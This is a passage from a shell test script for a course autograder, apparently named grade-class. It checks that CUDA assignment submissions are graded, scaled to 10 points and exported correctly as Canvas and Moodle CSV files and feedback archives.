[ "$(($(wc -l <"$book") - 1))" -eq 3 ] || fail "the download's gradebook does not have 3 rows: $(cat "$book")"
grep -q "left out, .*: README.txt" "$work/download.out" || fail "grade-class did not say it left README.txt out"
[ "$(cell doejane id)" = 4207 ] && [ "$(cell doejane late)" = late ] && [ "$(cell doejane file)" = argmax-1.cu ] ||
  fail "doejane's id, lateness or file are wrong: $(row doejane)"
grep -q -x 'File graded: argmax-1.cu (graded argmax-1.cu of the 3 files sent: argmax-1.cu, argmax.cu, notes.txt)' \
  "$work/grades/feedback/doejane.txt" || fail "doejane's feedback does not say which of her files was graded"
[ "$(cell 'Mark Ray' id)" = 555 ] && [ "$(cell 'Mark Ray' build)" = built ] || fail "Mark Ray's Moodle file was not graded: $(row 'Mark Ray')"
[ "$(cell smithjo build)" = "missing file" ] && [ "$(cell smithjo first_failure)" = "no argmax.cu among the 1 file sent: argmax_final.cu" ] ||
  fail "smithjo's misnamed file is not reported: $(row smithjo)"
canvas=$work/grades/lms/canvas.csv moodle=$work/grades/lms/moodle.csv
[ "$(head -1 "$canvas")" = "Student,ID,SIS User ID,SIS Login ID,Section,Argmax (4417)" ] || fail "canvas.csv's header: $(head -1 "$canvas")"
# out_of_10 POINTS TOTAL: the grade an import shows out of 10 (empty where nothing ran: no GPU).
out_of_10() { [ -z "$1" ] || awk -v p="$1" -v t="$2" 'BEGIN { printf "%.2f", p * 10 / t }' | sed -e 's/0*$//' -e 's/[.]$//'; }
scaled_points=$(out_of_10 "$(cell doejane points)" "$(cell doejane points_total)")
grep -q -x "doejane,4207,,,,$scaled_points" "$canvas" && grep -q -x "smithjo,12,,,,0" "$canvas" ||
  fail "canvas.csv's rows, out of 10 points: $(cat "$canvas")"
[ "$(head -1 "$moodle")" = "Identifier,Full name,Grade,Maximum Grade,Last modified (grade),Feedback comments" ] ||
  fail "moodle.csv's header: $(head -1 "$moodle")"
mark_points=$(out_of_10 "$(cell 'Mark Ray' points)" "$(cell 'Mark Ray' points_total)")
grep -q "^Participant 555,Mark Ray,$mark_points,10,$(cell 'Mark Ray' graded_at)," "$moodle" ||
  fail "moodle.csv's row, out of 10 points: $(cat "$moodle")"
python3 -c 'import sys, zipfile; names = zipfile.ZipFile(sys.argv[1]).namelist(); sys.exit(names != ["Mark Ray_555_assignsubmission_file_/feedback.txt"])' \
  "$work/grades/lms/moodle-feedback.zip" || fail "moodle-feedback.zip does not hold Mark Ray's feedback in his folder"
python3 -c 'import sys, zipfile; names = zipfile.ZipFile(sys.argv[1]).namelist(); sys.exit(names != ["doejane_late_4207_81240_feedback.txt", "smithjo_12_feedback.txt"])' \
  "$work/grades/lms/canvas-feedback.zip" || fail "canvas-feedback.zip is not named as the download was"
if [ $status -ne 77 ]; then
  [ "$(cell doejane points)" = "$(cell doejane points_total)" ] || fail "doejane's latest file (the solution) lost points: $(row doejane)"
fi
grade regrade.out "$download" --out "$work/grades" --only doejane "Mark Ray"
[ "$(head -1 "$canvas")" = "Student,ID,SIS User ID,SIS Login ID,Section,Argmax (4417)" ] ||
  fail "a regrade lost the assignment's title in canvas.csv: $(head -1 "$canvas")"
grep -q 'building 2 submissions' "$work/regrade.out" || fail "--only doejane \"Mark Ray\" did not grade the two: $(grep building "$work/regrade.out")"
grep -q ",10,$(cell 'Mark Ray' graded_at)," "$moodle" || fail "a regrade lost the assignment's points: $(cat "$moodle")"

if [ $first_status -eq 77 ]; then
  echo "grade-class: all checks passed without a GPU (36 submissions built, refused or reported; a regrade; a download; nothing run)"
else
  echo "grade-class: all checks passed on a GPU (verdicts, points, time-outs, output, sanitizers, confinement, integrity, leaderboard, regrade, download)"
fi
